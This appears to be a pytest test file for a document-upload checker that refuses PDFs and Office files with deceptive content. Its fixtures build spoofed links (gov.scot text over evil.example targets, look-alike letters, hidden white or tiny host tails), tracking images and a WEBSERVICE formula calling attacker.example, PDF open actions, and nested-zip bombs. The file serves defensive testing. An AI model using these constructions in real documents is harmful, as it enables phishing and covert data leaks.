    go_to = b"<< /S /GoTo /D [3 0 R /Fit] >>"
    assert pdf_problem(raw_pdf([PAGES[0].replace(b">>", b"/OpenAction 4 0 R >>"), *PAGES[1:], go_to],
                               b"<< /Size 5 /Root 1 0 R >>")) is None
    assert pdf_problem(raw_pdf([PAGES[0].replace(b">>", b"/OpenAction " + go_to + b" >>"), *PAGES[1:]],
                               b"<< /Size 4 /Root 1 0 R >>")) is None
    for action in (b"<< /S /URI /URI (https://evil.example/) >>", b"<< /S /Named /N /Print >>",
                   go_to.replace(b" >>", b" /Next << /S /URI /URI (https://evil.example/) >> >>"),
                   b"<< /S /GoTo /D (x) /F (other.pdf) >>"):
        assert "OpenAction" in pdf_problem(raw_pdf([PAGES[0].replace(b">>", b"/OpenAction 4 0 R >>"), *PAGES[1:],
                                                    action], b"<< /Size 5 /Root 1 0 R >>")), action
    assert csv_formula_problem(b'a,"- pending | review","- urgent! ask [finance]!","- image of the site"\n') is None
    assert "WEBSERVICE" in _formula_problem('_xlfn.MAP({"https://attacker.example/x"},_xleta.WEBSERVICE)')
    assert _formula_problem("SUM(Register)") is None


def test_the_twenty_seventh_rounds_files():
    """A stream whose data is in another file is refused; a workbook's and a
    document's links to their own places are honest; white space before a
    part is read only so far before the part's size is counted."""
    from resource_library.files import _field_problem, _formula_problem, data_problem, pdf_problem
    image = (b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /F (\\\\\\\\attacker.example\\\\s\\\\x) "
             b"/Length 0 >>\nstream\n\nendstream")
    assert "fetched from another file" in pdf_problem(raw_pdf([*PAGES, image], b"<< /Size 5 /Root 1 0 R >>"))
    assert _formula_problem('HYPERLINK("#Summary!A1","Go to summary")') is None
    assert _field_problem(' HYPERLINK "#_Toc1" ', "x") is None
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"/>')
        z.writestr("word/pad.xml", b" " * 110_000_000)  # over the 100 MB a document's parts may unzip to
    assert "too large to check" in data_problem(out.getvalue(), "docx")


def test_parts_are_counted_across_documents_inside_documents():
    """Twenty-eighth round: 240 inner zips of 4,999 empty parts each, in
    8 MB, took 45 s to check; each zip was under the limit on its own."""
    from resource_library.files import MAX_OFFICE_PARTS, data_problem
    types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("[Content_Types].xml", types)
        for n in range(MAX_OFFICE_PARTS // 2):
            z.writestr(f"p{n}.xml", "")
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", types)
        for n in range(3):
            z.writestr(f"word/embeddings/e{n}.docx", inner.getvalue())
    assert "parts to check, counting those of the documents inside it" in data_problem(outer.getvalue(), "docx")


# --- Links in a contributor's documents read as the pages' links are (thirty-first round) -----------

R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
A_NS = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'


def linked(part: str, xml: str, target: str) -> bytes:
    """An OOXML package whose `part` has one outside link, `rId7`, to `target`."""
    folder, name = part.rsplit("/", 1)
    return package({part: xml, f"{folder}/_rels/{name}.rels": relationships(
        f'Id="rId7" Type="{HYPERLINK}" Target="{html.escape(target)}" TargetMode="External"')})


def word_link(text: str, target: str, tooltip: str = "") -> bytes:
    tip = f' w:tooltip="{tooltip}"' if tooltip else ""
    return linked("word/document.xml", f'<w:document {W_NS} {R_NS}><w:body><w:p><w:hyperlink r:id="rId7"{tip}><w:r>'
                  f"<w:t>{text}</w:t></w:r></w:hyperlink></w:p></w:body></w:document>", target)


def slide_link(text: str, target: str) -> bytes:
    return linked("ppt/slides/slide1.xml", f'<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/'
                  f'main" {A_NS} {R_NS}><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:rPr><a:hlinkClick r:id="rId7"/>'
                  f"</a:rPr><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>", target)


def sheet_link(target: str, display: str = "", tooltip: str = "", shared: str = "") -> bytes:
    """A sheet with a link on B2; the cell's text is shared text when `shared` is given."""
    value = '<c r="B2" t="s"><v>0</v></c>' if shared else '<c r="B2" t="str"><v>Open</v></c>'
    attributes = (f' display="{display}"' if display else "") + (f' tooltip="{tooltip}"' if tooltip else "")
    document = linked("xl/worksheets/sheet1.xml", f'<worksheet {X_NS} {R_NS}><sheetData><row r="2">{value}</row>'
                      f'</sheetData><hyperlinks><hyperlink ref="B2" r:id="rId7"{attributes}/></hyperlinks></worksheet>',
                      target)
    return with_part(document, "xl/sharedStrings.xml", (XML + f'<sst {X_NS}><si><t>{shared}</t></si></sst>').encode()) \
        if shared else document


def field_link(target: str, shown: str, switches: str = "") -> bytes:
    return word("word/document.xml", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
                f'xml:space="preserve"> HYPERLINK {switches}"{target}" </w:instrText></w:r><w:r><w:fldChar '
                f'w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
                "</w:r></w:p>")


def odt_link(text: str, target: str, title: str = "") -> bytes:
    named = f' office:title="{title}"' if title else ""
    return odt(f'<office:body><office:text><text:p><text:a xlink:type="simple" xlink:href="{target}"{named}>{text}'
               "</text:a></text:p></office:text></office:body>")


EVIL = "https://evil.example/login"
SHOWS_GOV = "whose text shows `www.gov.scot`: a link must go where its text and tooltip say"
SHOWS_BARE = SHOWS_GOV.replace("www.", "")
# (name, document, what the refusal says): each published before this change.
MISLEADING_IN_FILES = [
    ("text.docx", word_link("https://www.gov.scot/guidance", EVIL), f"has a link to `{EVIL}` {SHOWS_GOV}"),
    ("tooltip.docx", word_link("Guidance", EVIL, tooltip="https://www.nhs.scot"),
     f"has a link to `{EVIL}` whose tooltip shows `www.nhs.scot`"),
    ("number.docx", word_link("Call 0131 623 4300", "tel:+449099999999"), "whose text shows `0131 623 4300`"),
    ("look-alike.docx", word_link("Guidance", "https://www.g\u043ev.scot/"),
     "whose host `www.g\u043ev.scot` is written in look-alike letters: it reads as `www.gov.scot`"),
    ("userinfo.docx", word_link("Guidance", "https://www.gov.scot@evil.example/"),
     "with `www.gov.scot@` before its host: it goes to `evil.example`"),
    ("field.docx", field_link(EVIL, "www.gov.scot"), f"has a field code HYPERLINK to `{EVIL}` {SHOWS_BARE}"),
    # Forty-second round: a place in the document first (`\l "top"`), then the address, which was never read.
    ("field-place.docx", field_link(EVIL, "www.gov.scot", switches='\\l "top" '),
     f"has a field code HYPERLINK to `{EVIL}` {SHOWS_BARE}"),
    ("slide.pptx", slide_link("www.gov.scot", EVIL), f"has a link to `{EVIL}` {SHOWS_BARE}"),
    ("display.xlsx", sheet_link(EVIL, display="https://www.gov.scot/"), SHOWS_GOV),
    ("shared.xlsx", sheet_link(EVIL, shared="https://www.gov.scot/"), SHOWS_GOV),
    ("cell-tip.xlsx", sheet_link(EVIL, tooltip="nhs.scot sign-in"), "whose tooltip shows `nhs.scot`"),
    ("friendly.xlsx", sheet(f'HYPERLINK("{EVIL}","https://www.gov.scot/")'), f"links to `{EVIL}` (HYPERLINK) {SHOWS_GOV}"),
    ("text.odt", odt_link("www.gov.scot", EVIL), f"has a link to `{EVIL}` {SHOWS_BARE} (in `text:a`)"),
    ("title.odt", odt_link("Guidance", EVIL, title="https://www.gov.scot/"), "whose tooltip shows `www.gov.scot`"),
]
# Thirty-third round: dots written as Word symbols, an `id` in another namespace beside `r:id`, an old-style (VML)
# shape's own `href`, a picture's alt text, a shape's text, and a sheet link over a range.
WP = ('xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
      'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:x" xmlns:mc="http://schemas.openxmlformats.org/'
      'markup-compatibility/2006" mc:Ignorable="x"')


def word_body(body: str, target: str = EVIL) -> bytes:
    return linked("word/document.xml", f"<w:document {W_NS} {R_NS} {A_NS} {WP}><w:body>{body}</w:body></w:document>",
                  target)


def slide_shape(shape: str) -> bytes:
    return linked("ppt/slides/slide1.xml", f'<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/'
                  f'main" {A_NS} {R_NS}><p:cSld><p:spTree>{shape}</p:spTree></p:cSld></p:sld>', EVIL)


SYMBOL_DOT = '<w:r><w:sym w:font="Arial" w:char="002E"/></w:r>'
MISLEADING_IN_FILES += [
    ("symbols.docx", word_body(f'<w:p><w:hyperlink r:id="rId7"><w:r><w:t>www</w:t></w:r>{SYMBOL_DOT}<w:r><w:t>gov'
                               f"</w:t></w:r>{SYMBOL_DOT}<w:r><w:t>scot</w:t></w:r></w:hyperlink></w:p>"), SHOWS_BARE),
    ("two-ids.docx", package({"word/document.xml": f"<w:document {W_NS} {R_NS} {WP}><w:body><w:p><w:hyperlink "
                              'x:id="rId8" r:id="rId7"><w:r><w:t>www.gov.scot</w:t></w:r></w:hyperlink></w:p></w:body>'
                              "</w:document>", "word/_rels/document.xml.rels": relationships(
                                  f'Id="rId7" Type="{HYPERLINK}" Target="{EVIL}" TargetMode="External"',
                                  f'Id="rId8" Type="{HYPERLINK}" Target="https://www.gov.scot/" TargetMode="External"')}),
     SHOWS_BARE),
    ("vml.docx", word_body('<w:p><w:r><w:pict><v:shape href="https://evil.example/"><v:textbox><w:txbxContent><w:p>'
                           "<w:r><w:t>www.gov.scot</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict>"
                           "</w:r></w:p>"), "has a link to `https://evil.example/` whose text shows `gov.scot`"),
    # Fortieth round: an old-style picture or fill naming an outside address in its own `src`.
    ("vml-picture.docx", word_body('<w:p><w:r><w:pict><v:shape><v:imagedata src="https://tracker.example/p.png"/>'
                                   "</v:shape></w:pict></w:r></w:p>"), "loads `https://tracker.example/p.png` from outside"),
    ("vml-fill.docx", word_body('<w:p><w:r><w:pict><v:rect><v:fill type="frame" src="file://attacker.example/s/x.png"/>'
                                "</v:rect></w:pict></w:r></w:p>"), "loads `file://attacker.example/s/x.png` from outside"),
    # Forty-first round: a content control bound to data, in or around a link: Word puts the data in as it opens.
    ("bound.docx", word_body('<w:p><w:hyperlink r:id="rId7"><w:sdt><w:sdtPr><w:dataBinding w:xpath="/root/a" '
                             'w:storeItemID="{1}"/></w:sdtPr><w:sdtContent><w:r><w:t>Read more</w:t></w:r></w:sdtContent>'
                             "</w:sdt></w:hyperlink></w:p>"), "a content control bound to data"),
    ("bound-around.docx", word_body('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/root/a" w:storeItemID="{1}"/></w:sdtPr>'
                                    '<w:sdtContent><w:p><w:hyperlink r:id="rId7"><w:r><w:t>Read more</w:t></w:r>'
                                    "</w:hyperlink></w:p></w:sdtContent></w:sdt>"), "a content control bound to data"),
    ("vml-share.docx", word_body('<w:p><w:r><w:pict><v:rect href="\\\\evil.example\\share\\x.docx"/></w:pict>'
                                 "</w:r></w:p>"), "has a shape linking to `\\\\evil.example\\share\\x.docx`"),
    ("alt.docx", word_body('<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="p" descr="https://www.gov.scot/">'
                           '<a:hlinkClick r:id="rId7"/></wp:docPr></wp:inline></w:drawing></w:r></w:p>'), SHOWS_GOV),
    ("shape.pptx", slide_shape('<p:sp><p:nvSpPr><p:cNvPr id="2" name="Box"><a:hlinkClick r:id="rId7"/></p:cNvPr>'
                               "</p:nvSpPr><p:txBody><a:p><a:r><a:t>https://www.gov.scot/</a:t></a:r></a:p></p:txBody>"
                               "</p:sp>"), SHOWS_GOV),
    ("picture.pptx", slide_shape('<p:pic><p:nvPicPr><p:cNvPr id="3" name="Pic" descr="https://www.gov.scot/">'
                                 '<a:hlinkClick r:id="rId7"/></p:cNvPr></p:nvPicPr></p:pic>'), SHOWS_GOV),
    ("range.xlsx", linked("xl/worksheets/sheet1.xml", f'<worksheet {X_NS} {R_NS}><sheetData><row r="1"><c r="A1" '
                          't="inlineStr"><is><t>Guidance</t></is></c><c r="B1" t="inlineStr"><is><t>https://www.gov.scot/'
                          '</t></is></c></row></sheetData><hyperlinks><hyperlink ref="A1:B1" r:id="rId7"/></hyperlinks>'
                          "</worksheet>", EVIL), SHOWS_GOV),
]
# Thirty-eighth round: the host's tail drawn too faint or small to see (white, 0.5 points, 1% wide, squeezed).
LONGER = "https://www.gov.scot.evil.example/"


def word_tail(properties: str, target: str = LONGER) -> bytes:
    return word_body(f'<w:p><w:hyperlink r:id="rId7"><w:r><w:t>www.gov.scot</w:t></w:r><w:r><w:rPr>{properties}'
                     "</w:rPr><w:t>.evil.example</w:t></w:r></w:hyperlink></w:p>", target)


def odt_tail(properties: str, target: str = LONGER) -> bytes:
    styles = ('<office:automatic-styles xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:fo="urn:'
              'oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"><style:style style:name="T1" '
              f'style:family="text"><style:text-properties {properties}/></style:style></office:automatic-styles>')
    return odt(styles + f'<office:body><office:text><text:p><text:a xlink:type="simple" xlink:href="{target}">'
               'www.gov.scot<text:span text:style-name="T1">.evil.example</text:span></text:a></text:p></office:text>'
               "</office:body>")


SHOWS_TAIL = f"has a link to `{LONGER}` {SHOWS_BARE}"
MISLEADING_IN_FILES += [
    ("white.docx", word_tail('<w:color w:val="FFFFFF"/>'), SHOWS_TAIL),
    ("tiny.docx", word_tail('<w:sz w:val="1"/>'), SHOWS_TAIL),
    ("scaled.docx", word_tail('<w:w w:val="1"/>'), SHOWS_TAIL),
    ("squeezed.docx", word_tail('<w:spacing w:val="-200"/><w:sz w:val="2"/>'), SHOWS_TAIL),
    ("tiny.pptx", linked("ppt/slides/slide1.xml", '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/'
                         f'2006/main" {A_NS} {R_NS}><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="Box">'
                         '<a:hlinkClick r:id="rId7"/></p:cNvPr></p:nvSpPr><p:txBody><a:p><a:r><a:t>www.gov.scot</a:t>'
                         '</a:r><a:r><a:rPr sz="100"><a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill></a:rPr><a:t>'
                         ".evil.example</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>", LONGER),
     SHOWS_TAIL),
    ("tiny.odt", odt_tail('fo:font-size="0.5pt"'), SHOWS_TAIL),
    ("conditional.odt", odt_link('<text:conditional-text text:condition="ooow:1 == 1" text:string-value-if-true='
                                 '"www.gov.scot" text:string-value-if-false="x" text:current-value="false">evil.example'
                                 "</text:conditional-text>", EVIL), "whose text is a field worked out when it is opened"),
    ("white.odt", odt_tail('fo:color="#ffffff"'), SHOWS_TAIL),
]
HONEST_IN_FILES = [
    # A cover page's title bound to the document's properties, with a link elsewhere.
    word_body('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/ns0:coreProperties[1]/ns1:title[1]" w:storeItemID="{6C3C8BC8}"/>'
              "</w:sdtPr><w:sdtContent><w:p><w:r><w:t>Winter plan</w:t></w:r></w:p></w:sdtContent></w:sdt>"
              '<w:p><w:hyperlink r:id="rId7"><w:r><w:t>Read more</w:t></w:r></w:hyperlink></w:p>'),
    # White on a dark fill, the whole link: read as written too, and it goes where it says.
    word_body('<w:p><w:hyperlink r:id="rId7"><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>www.gov.scot</w:t>'
              "</w:r></w:hyperlink></w:p>", "https://www.gov.scot/x"),
    odt_tail('fo:font-size="10pt" fo:color="#1a1a1a"'),
    word_link("https://www.gov.scot/guidance", "https://www.gov.scot/publications/x"),
    word_link("Read the guidance", EVIL, tooltip="The Scottish Government's guidance"),
    word_link("Call 0131 623 4300", "tel:+441316234300"),
    field_link("https://www.gov.scot/", "gov.scot"),
    slide_link("Next steps", EVIL),
    sheet_link("https://www.gov.scot/", shared="www.gov.scot"),
    sheet(f'HYPERLINK("{EVIL}","Open")'),
    odt_link("gov.scot", "https://www.gov.scot/x", title="Guidance"),
    word_body(f'<w:p><w:hyperlink r:id="rId7"><w:r><w:t>www</w:t></w:r>{SYMBOL_DOT}<w:r><w:t>gov</w:t></w:r>'
              f"{SYMBOL_DOT}<w:r><w:t>scot</w:t></w:r></w:hyperlink></w:p>", "https://www.gov.scot/x"),
]


@pytest.mark.parametrize("name, document, says", MISLEADING_IN_FILES, ids=[case[0] for case in MISLEADING_IN_FILES])
def test_a_link_in_a_document_goes_where_its_text_and_tooltip_say(name, document, says):
    from resource_library.files import office_problem
    refused = office_problem(document, name.rsplit(".", 1)[1])
    assert refused is not None and says in refused, refused


def test_honest_links_in_documents_pass():
    from resource_library.files import office_problem
    for number, document in enumerate(HONEST_IN_FILES):
        ext = "odt" if document.startswith(b"PK") and b"mimetype" in document[:200] else \
            "xlsx" if b"xl/" in document else "pptx" if b"ppt/" in document else "docx"
        assert office_problem(document, ext) is None, number


def pdf_with_links(lines: list[tuple[str, float]], links: list[tuple[str, list[float], str]]) -> bytes:
    """A one-page PDF drawing each (text, x) on its own line from the top, with link annotations (address,
    rectangle, tooltip) over them (r31b/mkpdf.py)."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    drawn = b"\n".join(f"BT /F1 18 Tf {x} {720 - 40 * n} Td ({text}) Tj ET".encode() for n, (text, x) in enumerate(lines))
    page = pdf.add_blank_page(page_size=(612, 792))
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_stream(drawn)
    page.Annots = pdf.make_indirect(Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=rect, Border=[0, 0, 0], A=Dictionary(S=Name.URI, URI=String(uri)),
        **({"Contents": String(tip)} if tip else {}))) for uri, rect, tip in links]))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


# The first line's address starts some 170 points in; the link covers it alone.
GUIDANCE = [("Official guidance: https://www.gov.scot/", 72), ("Phone: 0131 623 4300", 72)]


@pytest.mark.parametrize("links, says", [
    ([(EVIL, [240, 710, 560, 740], "")], f"has a link to `{EVIL}` {SHOWS_GOV} (page 1)"),
    ([("tel:+449099999999", [72, 670, 400, 700], "")], "whose text shows `0131 623 4300`"),
    ([(EVIL, [72, 500, 400, 540], "https://www.nhs.scot/")], "whose tooltip shows `www.nhs.scot`"),
    ([("https://www.gov.scot@evil.example/", [72, 500, 400, 540], "")], "with `www.gov.scot@` before its host"),
], ids=["text", "number", "tooltip", "userinfo"])
def test_a_link_in_a_pdf_goes_where_the_text_under_it_says(links, says):
    from resource_library.files import pdf_problem
    refused = pdf_problem(pdf_with_links(GUIDANCE, links))
    assert refused is not None and says in refused, refused


def test_honest_links_in_a_pdf_pass():
    """A link over words beside an address (the words before it on one line), over the address it goes to, and
    over a number it dials."""
    from resource_library.files import pdf_problem
    lines = [("Read the plan, or see https://www.gov.scot/", 72), ("Phone: 0131 623 4300", 72)]
    assert pdf_problem(pdf_with_links(lines, [
        (EVIL, [72, 710, 180, 740], ""), ("https://www.gov.scot/publications/", [250, 710, 560, 740], ""),
        ("tel:+441316234300", [72, 670, 400, 700], "")])) is None


def form(attributes: str) -> bytes:
    return odt('<office:body><office:text><office:forms><form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:'
               f'form:1.0" form:name="F"><form:button form:name="B" {attributes}/></form:form></office:forms>'
               "</office:text></office:body>")


@pytest.mark.parametrize("attributes, says", [
    ('form:image-data="https://attacker.example/pixel.png"', f"loads `https://attacker.example/pixel.png` {LOADS}"),
    ('form:button-type="url" form:target-location="file:///C:/x.exe"', "has a form button to `file:///C:/x.exe`"),
    ('form:button-type="url" form:target-location="https://evil.example/" form:label="www.gov.scot"',
     "has a form button to `https://evil.example/` whose text shows `gov.scot`"),
])
def test_a_forms_picture_and_button_are_read_as_links_and_pictures_are(attributes, says):
    """Thirty-first round (not tried, said as a gap): an OpenDocument form's picture and data source are fetched
    as it opens; its button's address is a link like any other."""
    from resource_library.files import office_problem
    refused = office_problem(form(attributes), "odt")
    assert refused is not None and says in refused, refused
    honest = 'form:button-type="url" form:target-location="https://www.gov.scot/x" form:label="gov.scot"'
    assert office_problem(form(honest + ' form:image-data="Pictures/b.png"'), "odt") is None


def test_a_pdfs_text_is_read_within_a_budget(monkeypatch):
    """PDFium reads a page's text in C++ (a page of 100,000 text operators in about 0.1 s): the pages read are
    bounded, and a PDF over the bound is refused, saying so."""
    from resource_library import files
    document = pdf_with_links(GUIDANCE, [("https://www.gov.scot/", [240, 710, 560, 740], "")])
    monkeypatch.setattr(files, "MAX_PDF_TEXT_PAGES", 1)
    work = files.Work()
    assert files._pdf_link_problem(document, work) is None and work.share == 1.0
    monkeypatch.setattr(files, "MAX_PDF_TEXT_PAGES", 0)
    assert "too many for what their text links to to be read" in files._pdf_link_problem(document)
    # The drawing unpacked for it, in all (a page packed twice over held 1 GB of blank lines; PDFium took 48 s).
    monkeypatch.setattr(files, "MAX_PDF_TEXT_PAGES", 1)
    drawn = len(__import__("pypdf").PdfReader(io.BytesIO(document)).pages[0].get_contents().get_data())
    monkeypatch.setattr(files, "MAX_PDF_DRAWING_BYTES", drawn)
    assert files._pdf_link_problem(document) is None
    monkeypatch.setattr(files, "MAX_PDF_DRAWING_BYTES", drawn - 1)
    assert "whose drawing unpacks to more than" in files._pdf_link_problem(document)


def test_what_a_pdf_viewer_makes_a_link_of_follows_the_pages_rules(tmp_path):
    """Thirty-second round: PDF viewers make a link of any address in a PDF's text. One in look-alike letters, or
    spelled by a font whose text map reads other letters than it draws, went to another site."""
    import pikepdf
    import typst
    from resource_library.files import pdf_problem
    # Made by Typst, as the tester made it: a string, so no link annotation, only text.
    (tmp_path / "a.typ").write_text('#"Full guidance: https://www.g\u043ev.scot/x"\n', encoding="utf-8")
    look_alike = typst.compile(str(tmp_path / "a.typ"))
    assert "which PDF viewers make a link, whose host `www.g\u043ev.scot` is written in look-alike letters" in \
        pdf_problem(look_alike)
    pdf = pikepdf.open(io.BytesIO(pdf_with_links([("Full guidance at www.gov.scot", 72)], [])))
    font = pdf.pages[0].Resources.Font.F1
    font.ToUnicode = pdf.make_stream(b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def "
                                     b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfchar <67> <0065> "
                                     b"endbfchar endcmap CMapName currentdict /CMap defineresource pop end end")
    out = io.BytesIO()
    pdf.save(out)
    assert "has a font whose text reads `e` where it draws `g`" in pdf_problem(out.getvalue())
    assert pdf_problem(pdf_with_links([("Full guidance at https://www.gov.scot/x", 72)], [])) is None


def test_a_pdf_button_or_a_links_next_action_is_read_too():
    """Thirty-third round: a push button drawn as `https://www.gov.scot/` opened evil.example (a button draws its
    own caption, not the page's text), and a link into the document went on (`/Next`) to evil.example."""
    from resource_library.files import pdf_problem
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> " \
           b"/Contents 6 0 R /Annots [5 0 R] >>"
    drawn = b"BT /F1 14 Tf 72 720 Td (www.gov.scot) Tj ET"
    contents = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawn), drawn)
    for annotation, says in (
            (b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [72 600 300 625] "
             b"/A << /S /URI /URI (https://evil.example/) >> >>", "has a Widget that opens `https://evil.example/`"),
            (b"<< /Type /Annot /Subtype /Link /Rect [70 715 300 735] /A << /S /GoTo /D [3 0 R /Fit] /Next "
             b"<< /S /URI /URI (https://evil.example/) >> >> >>",
             "has a link to `https://evil.example/` whose text shows `gov.scot`")):
        document = raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page,
                            font, annotation, contents], b"<< /Size 7 /Root 1 0 R >>")
        refused = pdf_problem(document)
        assert refused is not None and says in refused, refused


def annotated_pdf(annotation: bytes, drawn: bytes = b"BT /F1 12 Tf 72 700 Td (Briefing) Tj ET",
                  link: bytes = b"<< /Type /Annot /Subtype /Link /Rect [70 690 400 730] /Border [0 0 0] "
                                b"/A << /S /URI /URI (https://evil.example/) >> >>") -> bytes:
    """One page with a link over `drawn`, and one more annotation (object 7), whose appearance is object 8."""
    appearance = b"BT /F1 24 Tf 2 10 Td (https://www.gov.scot/) Tj ET"
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> "
                    b"/Contents 5 0 R /Annots [6 0 R 7 0 R] >>",
                    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
                    b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawn), drawn), link, annotation,
                    b"<< /Type /XObject /Subtype /Form /BBox [0 0 330 40] /Resources << /Font << /F1 4 0 R >> >> "
                    b"/Length %d >>\nstream\n%s\nendstream" % (len(appearance), appearance)],
                   b"<< /Size 9 /Root 1 0 R >>")


@pytest.mark.parametrize("annotation, says", [
    (b"<< /Type /Annot /Subtype /FreeText /Rect [70 690 400 730] /F 4 /DA (/F1 24 Tf) /AP << /N 8 0 R >> >>",
     "has a FreeText annotation drawn over a link (page 1)"),
    (b"<< /Type /Annot /Subtype /Stamp /Rect [60 680 410 740] /AP << /N 8 0 R >> >>", "has a Stamp annotation"),
    (b"<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 1 /T (f) /V (https://www.gov.scot/) /Rect [70 690 400 730] "
     b"/AP << /N 8 0 R >> >>", "has a Widget annotation"),
    (b"<< /Type /Annot /Subtype /Square /Rect [200 695 300 725] /IC [1 1 1] >>", "has a Square annotation"),
], ids=["free-text", "stamp", "field", "cover"])
def test_an_annotation_drawn_over_a_pdf_link_is_refused(annotation, says):
    """Thirty-eighth round: a free-text note, a stamp or a read-only field drew `https://www.gov.scot/` over a link
    to evil.example whose own words (the page's text, which is read) were `Briefing`; Chrome's viewer draws them."""
    from resource_library.files import pdf_problem
    refused = pdf_problem(annotated_pdf(annotation))
    assert refused is not None and says in refused, refused


def test_annotations_beside_a_pdf_link_and_a_links_border_pass():
    """A note elsewhere on the page, a hidden one over the link, and a link whose appearance is only its border."""
    from resource_library.files import pdf_problem
    for annotation in (b"<< /Type /Annot /Subtype /Text /Rect [500 100 520 120] /Contents (Check the figures) >>",
                       b"<< /Type /Annot /Subtype /FreeText /Rect [70 690 400 730] /F 2 /AP << /N 8 0 R >> >>",
                       b"<< /Type /Annot /Subtype /Highlight /Rect [70 500 400 530] /QuadPoints [70 530 400 530 70 500 "
                       b"400 500] >>"):
        assert pdf_problem(annotated_pdf(annotation, drawn=b"BT /F1 12 Tf 72 700 Td (evil.example) Tj ET")) is None
    note = b"<< /Type /Annot /Subtype /Text /Rect [500 100 520 120] >>"
    border = b"0 0 1 RG 1 w 0.5 0.5 329 39 re S"
    # An appearance that draws the text over it is refused; one that draws a border is not.
    from resource_library.files import _appearance_shows
    assert _appearance_shows({"/N": FakeStream(border)}) is False
    assert _appearance_shows({"/N": FakeStream(b"BT /F1 24 Tf 2 10 Td (https://www.gov.scot/) Tj ET")}) is True
    linked = annotated_pdf(note, link=b"<< /Type /Annot /Subtype /Link /Rect [70 690 400 730] /AP << /N 8 0 R >> "
                                      b"/A << /S /URI /URI (https://evil.example/) >> >>")
    assert "a link that draws its own text or picture" in pdf_problem(linked)


def drawn_link_pdf(drawn: bytes, uri: str = "https://www.gov.scot.evil.example/", rect=(60, 690, 560, 740)) -> bytes:
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page = pdf.add_blank_page(page_size=(612, 792))
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_stream(drawn)
    page.Annots = pdf.make_indirect(Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=list(rect), Border=[0, 0, 0], A=Dictionary(S=Name.URI, URI=String(uri))))]))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


@pytest.mark.parametrize("tail", [b"3 Tr", b"1 1 1 rg", b"/F1 0.5 Tf", b"7 Tr"], ids=["invisible", "white", "tiny", "clip"])
def test_letters_drawn_unseen_are_not_read_as_a_pdf_links_text(tail):
    """Thirty-eighth round: `www.gov.scot` drawn, `.evil.example` after it drawn unseen, over a link to (or in text
    PDFium links as) www.gov.scot.evil.example: read with every letter, the text went where it said."""
    from resource_library.files import pdf_problem
    drawn = b"BT /F1 24 Tf 72 700 Td (www.gov.scot) Tj " + tail + b" (.evil.example) Tj ET"
    for rect in ((60, 690, 560, 740), (0, 0, 1, 1)):  # an annotation over it; the address PDFium links in the text
        refused = pdf_problem(drawn_link_pdf(drawn, rect=rect))
        assert refused is not None and "whose text shows `gov.scot`" in refused and "drawn unseen" in refused, refused
    # Every letter seen; white words elsewhere on the page; a whole link in white on a dark box.
